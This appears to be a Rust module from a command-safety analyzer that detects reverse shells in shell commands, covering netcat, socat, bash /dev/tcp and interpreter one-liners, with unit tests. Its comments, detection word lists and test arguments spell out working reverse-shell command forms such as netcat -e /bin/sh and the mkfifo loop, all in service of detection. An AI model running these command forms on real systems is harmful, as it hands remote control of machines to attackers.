//! Shells handed to a network connection (`reverse-shell`): whoever is at the other end types
//! the commands.
//!
//! Found in the forms the tools offer: netcat's `-e PROG`/`-c CMD` (ncat's `--exec`,
//! `--sh-exec`, `--lua-exec`), socat joining an `EXEC:`/`SYSTEM:` address to a network one, a
//! shell or interpreter whose commands come from or whose output goes to bash's `/dev/tcp`
//! (directly, or through a descriptor `exec` opened on one), a network client piped into a shell
//! (`nc h p | sh`, `openssl s_client … | sh`), a shell reading a pipe with its output piped to a
//! network client (the `mkfifo` loop), and interpreter code that opens a socket and starts a
//! shell on it (`python3 -c 'import socket…; subprocess.call(["/bin/sh","-i"])'`, read as the
//! interpreter reader hands the shell over).
//!
//! This module must not flag a network client used on its own (`nc -z`, `nc -l`, a request fed
//! from a file: those uploads are `exfil`'s), socat between two sockets, nor a shell that runs a
//! script given to it while its output goes elsewhere.

use super::Cmd;
use crate::argv::{Parsed, has_flag};
use crate::packs::Findings;
use crate::shell::{
    Analysis, RedirectKind, SHELLS, SimpleCommand, Unresolved, is_interpreter,
    reads_program_from_stdin,
};

const RULE: &str = "reverse-shell";

/// The names netcat goes by.
const NETCAT: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "cryptcat",
];

/// netcat's short options that take a value (the traditional, OpenBSD and nmap versions').
const NETCAT_SHORT_VALUE: &[char] = &[
    'e', 'c', 'g', 'G', 'i', 'I', 'm', 'M', 'o', 'O', 'p', 'P', 'q', 's', 'T', 'V', 'w', 'W', 'x',
    'X',
];

/// ncat's long options that take a separate value.
const NCAT_LONG_VALUE: &[&str] = &[
    "exec",
    "sh-exec",
    "lua-exec",
    "output",
    "hex-dump",
    "max-conns",
    "delay",
    "idle-timeout",
    "source-port",
    "source",
    "wait",
    "proxy",
    "proxy-type",
    "proxy-auth",
    "proxy-dns",
    "allow",
    "allowfile",
    "deny",
    "denyfile",
    "ssl-cert",
    "ssl-key",
    "ssl-trustfile",
    "ssl-ciphers",
    "ssl-servername",
    "ssl-alpn",
];

/// socat address types that run a program.
const SOCAT_PROGRAMS: &[&str] = &["EXEC", "SYSTEM", "SHELL"];

/// socat address types (and their prefixes: `TCP4-LISTEN`, `OPENSSL-CONNECT`) that reach the
/// network.
const SOCAT_NETWORK: &[&str] = &[
    "TCP", "UDP", "SCTP", "DCCP", "UDPLITE", "OPENSSL", "SSL", "SOCKS", "PROXY",
];

/// Words in interpreter code that open a network socket.
const SOCKET_WORDS: &[&str] = &[
    "socket",
    "fsockopen",
    "net.connect",
    "net.createconnection",
    "/dev/tcp/",
    "/dev/udp/",
];

/// Words in interpreter code that run a command (`system $_ while <>`, `IO.popen($_)`,
/// `proc_open("sh", [$s, $s, $s])`): with a socket in a one-liner, the commands come from it.
const RUN_WORDS: &[&str] = &[
    "system",
    "exec",
    "popen",
    "proc_open",
    "spawn",
    "subprocess",
    "pty.",
    "shell_exec",
    "passthru",
    "child_process",
    "open3",
    "`",
];

/// Whether an interpreter's one-liner (`-c`/`-e` code, not a script on stdin) both opens a
/// network socket and runs commands: the classic reverse shells of Perl, Ruby, PHP and Python,
/// whose command is only known at run time (it arrives over the socket).
fn one_liner_runs_socket_commands(simple: &SimpleCommand) -> bool {
    if !is_interpreter(simple.name()) || SHELLS.contains(&simple.name()) {
        return false;
    }
    let code: Vec<String> = simple
        .args()
        .iter()
        .map(|a| a.to_ascii_lowercase())
        .collect();
    let has = |words: &[&str]| {
        code.iter()
            .any(|code| words.iter().any(|word| code.contains(word)))
    };
    has(SOCKET_WORDS) && has(RUN_WORDS)
}

/// Whether netcat runs a program on its connection: `-e PROG`, ncat's `--exec`, `--sh-exec`,
/// `--lua-exec`, and `-c CMD` where it means a command (ncat's always; elsewhere only when the
/// operands left make sense with `-c` taking a value, as macOS's `-c` is a flag for CRLF).
fn netcat_runs_program(name: &str, args: &[String]) -> bool {
    let parsed = Parsed::new(args, NETCAT_SHORT_VALUE, NCAT_LONG_VALUE);
    if parsed.has(&['e'], &["exec", "sh-exec", "lua-exec"]) {
        return true;
    }
    if !parsed.shorts.contains(&'c') {
        return false;
    }
    name == "ncat" || parsed.has(&['l'], &["listen"]) || parsed.operands.len() >= 2
}

/// A socat address's type, upper-cased, with the character that ends it.
fn socat_type(address: &str) -> (String, Option<char>) {
    let end = address.find([':', ',']).unwrap_or(address.len());
    let kind = address.get(..end).unwrap_or(address).to_ascii_uppercase();
    (
        kind,
        address.get(end..).and_then(|rest| rest.chars().next()),
    )
}

fn socat_network(address: &str) -> bool {
    let (kind, _) = socat_type(address);
    SOCAT_NETWORK.iter().any(|net| {
        kind.strip_prefix(net).is_some_and(|rest| {
            rest.is_empty() || rest.starts_with('-') || rest.starts_with(['4', '6'])
        })
    })
}

fn socat_program(address: &str) -> bool {
    let (kind, end) = socat_type(address);
    SOCAT_PROGRAMS.contains(&kind.as_str()) && end == Some(':')
}

/// socat's addresses (its operands; dual addresses `A!!B` split).
fn socat_addresses(args: &[String]) -> impl Iterator<Item = &str> {
    args.iter()
        .filter(|arg| !arg.starts_with('-'))
        .flat_map(|arg| arg.split("!!"))
}

/// Whether socat joins a program to the network.
fn socat_runs_program(args: &[String]) -> bool {
    socat_addresses(args).any(socat_program) && socat_addresses(args).any(socat_network)
}

/// Whether a redirect target is one of bash's network pseudo-devices.
fn is_socket(target: &str) -> bool {
    target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/")
}

/// Whether a command talks to the network with its stdin and stdout.
fn is_network_client(simple: &SimpleCommand) -> bool {
    let args = simple.args();
    match simple.name() {
        "telnet" | "gnutls-cli" => true,
        "socat" => socat_addresses(args).any(socat_network),
        "openssl" => args.first().is_some_and(|sub| sub == "s_client"),
        name => NETCAT.contains(&name),
    }
}

/// A command whose output is read from the network: a client, or a `/dev/tcp` read.
fn reads_network(simple: &SimpleCommand) -> bool {
    is_network_client(simple)
        || simple
            .redirects
            .iter()
            .any(|r| r.kind == RedirectKind::Read && is_socket(&r.target))
}

/// A shell or interpreter that reads its commands from stdin, with nothing on the command line
/// saying what they are (no here-doc, no `echo … |`): they come from wherever stdin leads.
fn reads_live_commands(simple: &SimpleCommand) -> bool {
    reads_program_from_stdin(simple.name(), simple.args()) && simple.stdin_text.is_none()
}

/// The interpreter whose code started this command (`python3 -c '…subprocess.call(…)'`).
fn starting_interpreter<'a>(cmd: &Cmd<'a>) -> Option<&'a SimpleCommand> {
    let depth = cmd.simple.depth.checked_sub(1)?;
    cmd.analysis
        .commands
        .iter()
        .take(cmd.index)
        .rev()
        .find(|parent| parent.depth == depth)
        .filter(|parent| is_interpreter(parent.name()))
}

/// Whether interpreter code opens a network socket.
fn opens_socket(interpreter: &SimpleCommand) -> bool {
    let code = interpreter
        .args()
        .iter()
        .map(String::as_str)
        .chain(interpreter.stdin_text.as_deref());
    code.map(str::to_ascii_lowercase)
        .any(|code| SOCKET_WORDS.iter().any(|word| code.contains(word)))
}

pub(super) fn check(cmd: &Cmd<'_>, out: &mut Findings) {
    let simple = cmd.simple;
    let name = cmd.name();
    let args = cmd.args();
    let program_on_connection = match name {
        "socat" => socat_runs_program(args),
        _ if NETCAT.contains(&name) => netcat_runs_program(name, args),
        _ => false,
    };
    if one_liner_runs_socket_commands(simple) {
        out.add(
            RULE,
            format!(
                "`{name}` code would open a network socket and run the commands that come over it"
            ),
        );
    }
    if program_on_connection {
        out.add(
            RULE,
            format!(
                "`{name}` would hand a program to a network connection, for whoever is at the other end to drive"
            ),
        );
    }
    if reads_live_commands(simple) {
        if simple.redirects.iter().any(|r| is_socket(&r.target)) {
            out.add(
                RULE,
                format!(
                    "`{name}` would take its commands from, or send its output to, a network socket"
                ),
            );
        }
        if cmd.upstream().iter().any(|(_, up)| reads_network(up)) {
            out.add(
                RULE,
                format!("`{name}` would run commands that arrive over a network connection"),
            );
        }
        if simple.origin == crate::shell::Origin::Interpreter
            && starting_interpreter(cmd).is_some_and(opens_socket)
        {
            out.add(
                RULE,
                format!("interpreter code would open a network socket and start `{name}` on it"),
            );
        }
    }
    // `cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f`: the shell's output goes out, and what
    // comes back is fed to it through the pipe.
    if is_network_client(simple) {
        let fifo = cmd
            .analysis
            .commands
            .iter()
            .any(|c| matches!(c.name(), "mkfifo" | "mknod"));
        let shell = cmd.upstream().into_iter().find(|(_, up)| {
            reads_live_commands(up) && (fifo || has_flag(up.args(), &['i'], &["interactive"]))
        });
        if let Some((_, shell)) = shell {
            out.add(
                RULE,
                format!(
                    "`{}` would send its output to a network connection while it reads commands from a pipe",
                    shell.name()
                ),
            );
        }
    }
}

/// A descriptor opened on a network socket by `exec` (`exec 3<>/dev/tcp/h/p`) with a shell in
/// the same command line reading commands from stdin (`sh <&3 >&3`: the analysis does not list
/// descriptor duplications), or running each line read as a command (`while read l; do $l; done`).
pub(super) fn check_analysis(analysis: &Analysis, out: &mut Findings) {
    // zsh's `ztcp HOST PORT` opens one too (its descriptor in `$REPLY`).
    let socket = analysis.commands.iter().any(|simple| {
        (simple.name() == "exec" && simple.redirects.iter().any(|r| is_socket(&r.target)))
            || (simple.name() == "ztcp"
                && Parsed::new(simple.args(), &['d'], &[]).operands.len() >= 2)
    });
    if !socket {
        return;
    }
    let shell = analysis.commands.iter().any(reads_live_commands);
    let dynamic = analysis
        .unresolved
        .iter()
        .any(|u| matches!(u, Unresolved::DynamicCommand(_)));
    if shell || dynamic {
        out.add(
            RULE,
            "a shell would take its commands from a network socket opened with `exec` or `ztcp`",
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(words: &[&str]) -> Vec<String> {
        words.iter().map(|word| (*word).to_owned()).collect()
    }

    #[test]
    fn netcat_programs() {
        for args in [
            &["-e", "/bin/sh", "h", "4444"][..],
            &["-e/bin/sh", "h", "4444"],
            &["-lvp", "4444", "-e", "/bin/bash"],
            &["-c", "sh -i", "h", "4444"],
            &["--sh-exec", "sh", "h", "4444"],
            &["--lua-exec=x.lua", "h", "4444"],
        ] {
            assert!(netcat_runs_program("nc", &argv(args)), "{args:?}");
        }
        for args in [
            &["-z", "h", "443"][..],
            &["-l", "8080"],
            &["-c", "h", "80"],
            &["-p", "4444", "h", "80"],
        ] {
            assert!(!netcat_runs_program("nc", &argv(args)), "{args:?}");
        }
        assert!(netcat_runs_program("ncat", &argv(&["-c", "id", "h"])));
    }

    #[test]
    fn socat_addresses_joined() {
        for args in [
            &["exec:sh", "tcp:h:4444"][..],
            &["TCP4:h:4444", "EXEC:'bash -li',pty,stderr,setsid"],
            &["-d", "-d", "TCP-LISTEN:4444,reuseaddr,fork", "SYSTEM:sh"],
            &["openssl-connect:h:443,verify=0", "exec:/bin/sh"],
        ] {
            assert!(socat_runs_program(&argv(args)), "{args:?}");
        }
        for args in [
            &["TCP-LISTEN:8080,fork", "TCP:localhost:3000"][..],
            &["-", "UNIX-CONNECT:/tmp/s"],
            &["EXEC:sh", "UNIX-LISTEN:/tmp/s"],
            &["file:/tmp/exec:x", "tcp:h:1"],
        ] {
            assert!(!socat_runs_program(&argv(args)), "{args:?}");
        }
    }
}
